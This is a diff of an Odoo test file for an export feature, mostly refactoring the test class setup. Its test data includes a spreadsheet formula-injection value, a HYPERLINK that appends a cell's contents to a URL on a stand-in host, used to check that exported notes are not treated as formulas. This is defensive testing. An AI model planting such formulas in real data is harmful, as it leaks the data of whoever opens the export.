@@ -5,9 +5,9 @@ import re
 from zipfile import ZipFile
 
 from odoo import http
-from odoo.tests import HttpCase, tagged
+from odoo.tests import tagged
 
-from .common import AsnDataMixin
+from .common import AsnHttpCase
 
 NOTES = [
     '=HYPERLINK("http://x.example/?"&A1,"Klik")',
@@ -22,14 +22,12 @@ NOTES = [
 
 
 @tagged("post_install", "-at_install")
-class TestAsnExport(AsnDataMixin, HttpCase):
+class TestAsnExport(AsnHttpCase):
     """What an employee types is no formula on the machine of whoever exports it."""
 
     @classmethod
     def setUpClass(cls):
         super().setUpClass()
-        cls.env = cls.env(context=dict(cls.env.context, tracking_disable=True))
-        cls._make_region(cls.env)
         cls._make_year(cls.env)
         cls.plan = cls._agree_plan(cls.nurse)
         cls.half.with_user(cls.hr_user).action_open()
